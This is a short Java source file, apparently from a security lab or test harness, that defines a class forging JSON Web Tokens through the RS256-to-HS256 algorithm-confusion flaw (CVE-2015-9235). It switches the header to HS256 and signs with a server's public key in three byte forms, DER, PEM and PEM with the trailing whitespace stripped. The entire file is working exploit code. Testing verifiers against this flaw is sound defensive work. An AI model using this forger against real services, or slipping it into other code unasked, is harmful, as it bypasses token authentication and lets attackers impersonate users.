package dev.attestry.lab;

import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.attestry.codec.Bytes;
import dev.attestry.crypto.CompactJws;
import java.security.GeneralSecurityException;
import java.security.PublicKey;
import java.util.List;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;

/** Makes tokens whose HMAC is under a public key, which everybody has (CVE-2015-9235). */
final class HmacForger {

  private HmacForger() {}

  /** One for each form in which a careless verifier may hold the key: DER, PEM, PEM without end. */
  static List<Bytes> tokens(ObjectNode header, Bytes payload, PublicKey key) {
    Bytes pem = Bytes.utf8(LabPem.of(key));
    return List.of(Bytes.of(key.getEncoded()), pem, Bytes.utf8(pem.utf8().strip())).stream()
        .map(secret -> CompactJws.make(header.put("alg", "HS256"), payload, m -> hmac(secret, m)))
        .toList();
  }

  private static Bytes hmac(Bytes key, Bytes message) {
    try {
      Mac mac = Mac.getInstance("HmacSHA256");
      mac.init(new SecretKeySpec(key.toArray(), "HmacSHA256"));
      return Bytes.of(mac.doFinal(message.toArray()));
    } catch (GeneralSecurityException e) {
      throw new IllegalStateException(e);
    }
  }
}
